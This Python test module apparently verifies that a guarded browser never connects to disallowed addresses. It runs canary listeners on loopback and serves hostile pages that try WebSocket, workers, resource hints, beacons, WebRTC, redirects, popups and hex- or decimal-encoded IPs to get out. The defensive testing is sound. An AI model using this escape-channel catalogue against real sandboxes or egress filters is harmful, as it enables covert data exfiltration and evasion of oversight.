"""Canary listeners and the pages that try to reach them: the test of "the browser never leaves the guard".

A canary is a bare TCP listener on an address the registry does not allow (127.0.0.2, and [::1] where the
machine has IPv6 loopback); it records every connection it accepts, before any byte, so a WebSocket upgrade,
a preconnect or an HTTP request all count. Each hostile page tries one family of ways out (WebSocket,
workers, resource hints, frames, redirects, navigation, beacons, WebRTC, popups, downloads) against its own
pair of canaries, so a leak names its way out. A UDP canary on 127.0.0.2 catches WebRTC's STUN packets.
"""

from __future__ import annotations

import socket
import threading
from dataclasses import dataclass, field

from conftest import ScriptedServer


class Canary:
    """Accepts (and counts) connections on one address until closed."""

    def __init__(self, host: str, kind: int = socket.SOCK_STREAM):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.sock = socket.socket(family, kind)
        self.sock.bind((host, 0))
        self.port = self.sock.getsockname()[1]
        self.host = host
        self.kind = kind
        self.hits = 0
        self._closed = False
        if kind == socket.SOCK_STREAM:
            self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def authority(self) -> str:
        return f"[{self.host}]:{self.port}" if ":" in self.host else f"{self.host}:{self.port}"

    def _serve(self) -> None:
        while not self._closed:
            try:
                if self.kind == socket.SOCK_STREAM:
                    conn, _ = self.sock.accept()
                    self.hits += 1
                    conn.close()
                else:
                    self.sock.recvfrom(2048)
                    self.hits += 1
            except (TimeoutError, OSError):
                continue

    def stop(self) -> None:
        self._closed = True

    def close(self) -> None:
        self.stop()
        self.thread.join(2)
        self.sock.close()


def ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as probe:
            probe.bind(("::1", 0))
        return True
    except OSError:
        return False


# Each page is formatted with {a} (a canary on 127.0.0.2), {b} (one on [::1], or a second on 127.0.0.2 where
# there is no IPv6 loopback), {hexa} and {deca} (the first canary's address as 0x7f000002 and 2130706434),
# and {udp} (the UDP canary's port).
PAGES: dict[str, str] = {
    "websocket": """<script>
      for (const u of ["ws://{a}/", "ws://{b}/", "wss://{a}/", "ws://{hexa}/", "ws://{deca}/"]) {{
        try {{ new WebSocket(u); }} catch (e) {{}} }}
    </script>""",
    "worker": """<script>
      new Worker("/js/worker-worker.js");
      const code = "fetch('http://{a}/w').catch(()=>{{}}); try {{ new WebSocket('ws://{b}/'); }} catch(e) {{}}";
      new Worker(URL.createObjectURL(new Blob([code], {{type: "text/javascript"}})));
    </script>""",
    "shared-worker": """<script>new SharedWorker("/js/worker-shared-worker.js");</script>""",
    "service-worker": """<script>
      navigator.serviceWorker && navigator.serviceWorker.register("/sw-service-worker.js").catch(() => {{}});
    </script>""",
    "hints": """<link rel="preconnect" href="http://{a}"><link rel="dns-prefetch" href="http://{b}">
      <link rel="prefetch" href="http://{a}/p"><link rel="preload" as="image" href="http://{b}/i.png">
      <link rel="modulepreload" href="http://{hexa}/m.js"><link rel="prerender" href="http://{deca}/r">
      <script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://{a}/s"]}}],
        "prerender": [{{"source": "list", "urls": ["http://{b}/s"]}}]}}</script>""",
    "frames": """<iframe src="http://{a}/f" title="a"></iframe><iframe src="/go?to=http://{b}/f" title="b"></iframe>
      <iframe srcdoc="<img src='http://{a}/srcdoc.png'>" title="c"></iframe>""",
    "subresources": """<img src="http://{a}/i.png" alt=""><img src="/go?to=http://{b}/i.png" alt="">
      <link rel="stylesheet" href="http://{hexa}/s.css"><script src="http://{deca}/s.js"></script>
      <style>@import url("http://{b}/imp.css"); body {{ background: url("http://{a}/bg.png"); }}
        @font-face {{ font-family: x; src: url("http://{b}/f.woff"); }} p {{ font-family: x; }}</style>
      <video src="http://{a}/v.mp4" autoplay muted></video><audio src="http://{b}/a.mp3" autoplay></audio>
      <object data="http://{a}/o" type="text/html"></object><embed src="http://{b}/e" type="image/png">""",
    "beacons": """<a id="ping" href="#x" ping="http://{a}/ping">p</a><script>
      navigator.sendBeacon("http://{b}/beacon", "x");
      fetch("http://{a}/k", {{keepalive: true, mode: "no-cors"}}).catch(() => {{}});
      try {{ new EventSource("http://{b}/es"); }} catch (e) {{}}
      const x = new XMLHttpRequest(); x.open("GET", "http://{hexa}/x"); x.send();
      document.getElementById("ping").click();
    </script>""",
    "webrtc": """<script>
      try {{
        const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.2:{udp}"}},
          {{urls: "turn:{a}?transport=tcp", username: "u", credential: "c"}}]}});
        pc.createDataChannel("d");
        pc.createOffer().then(o => pc.setLocalDescription(o));
      }} catch (e) {{}}
    </script>""",
    "navigation": """<form id="f" action="http://{b}/form" method="post"><input name="q" value="1"></form>
      <script>setTimeout(() => {{ location.href = "http://{a}/away"; }}, 100);
      setTimeout(() => document.getElementById("f").submit(), 300);</script>""",
    "refresh": """<meta http-equiv="refresh" content="0; url=http://{a}/refresh">""",
    "popups": """<a id="p" href="http://{b}/blank" target="_blank">p</a><script>
      window.open("http://{a}/popup"); document.getElementById("p").click();
      const i = document.createElement("iframe"); i.title = "x"; document.body.appendChild(i);
      try {{ i.contentWindow.open("http://{hexa}/popup2"); }} catch (e) {{}}
    </script>""",
    "download": """<a id="d" href="http://{a}/file.zip" download>d</a>
      <script>document.getElementById("d").click();</script>""",
}

# Worker scripts, formatted like the pages: /js/worker-<page>.js (dedicated and shared), /sw-<page>.js.
WORKER_JS = """fetch("http://{a}/worker").catch(() => {{}});
try {{ new WebSocket("ws://{b}/"); }} catch (e) {{}}
try {{ importScripts("http://{hexa}/imp.js"); }} catch (e) {{}}
self.onconnect = () => {{}};"""
SERVICE_WORKER_JS = """self.addEventListener("install", e => e.waitUntil(fetch("http://{a}/sw").catch(() => {{}})));
try {{ new WebSocket("ws://{b}/"); }} catch (e) {{}}"""


@dataclass
class HostileSite:
    """One page per way out on ``server``, each with its own canaries; ``hits`` says which were reached."""

    server: ScriptedServer
    canaries: dict[str, list[Canary]] = field(default_factory=dict)
    udp: Canary | None = None

    def __post_init__(self) -> None:
        second = "::1" if ipv6_loopback() else "127.0.0.2"
        self.udp = Canary("127.0.0.2", socket.SOCK_DGRAM)
        js = {"Content-Type": "text/javascript"}
        for name, body in PAGES.items():
            a, b = Canary("127.0.0.2"), Canary(second)
            self.canaries[name] = [a, b]
            values = {"a": a.authority, "b": b.authority, "hexa": f"0x7f000002:{a.port}",
                      "deca": f"2130706434:{a.port}", "udp": self.udp.port}
            html = body.format(**values)
            self.server.page(f"/js/worker-{name}.js", WORKER_JS.format(**values), **js)
            self.server.page(f"/sw-{name}.js", SERVICE_WORKER_JS.format(**values), **js)
            self.server.page(f"/{name}", f'<!doctype html><html lang="vi"><head><title>{name}</title></head>'
                                         f"<body><main><h1>{name}</h1><p>nội dung</p>{html}</main></body></html>")
        for canary in self.all_canaries():
            for target in (f"http://{canary.authority}/f", f"http://{canary.authority}/i.png"):
                self.server.page(f"/go?to={target}", "", status=302, Location=target)
        # A page that is itself a redirect to a canary: the top-level navigation must be refused too.
        a = Canary("127.0.0.2")
        self.canaries["redirect"] = [a]
        self.server.page("/redirect", "", status=302, Location=f"http://{a.authority}/landing")

    @property
    def paths(self) -> list[str]:
        return [f"/{name}" for name in self.canaries]

    def all_canaries(self) -> list[Canary]:
        return [c for pair in self.canaries.values() for c in pair]

    def hits(self) -> dict[str, int]:
        """Connections per way out (``webrtc`` includes the UDP canary's packets)."""
        out = {name: sum(c.hits for c in pair) for name, pair in self.canaries.items()}
        out["webrtc"] = out.get("webrtc", 0) + (self.udp.hits if self.udp else 0)
        return {name: n for name, n in out.items() if n}

    def close(self) -> None:
        canaries = [*self.all_canaries(), *([self.udp] if self.udp else [])]
        for canary in canaries:   # all stop at once, then each is joined
            canary.stop()
        for canary in canaries:
            canary.close()
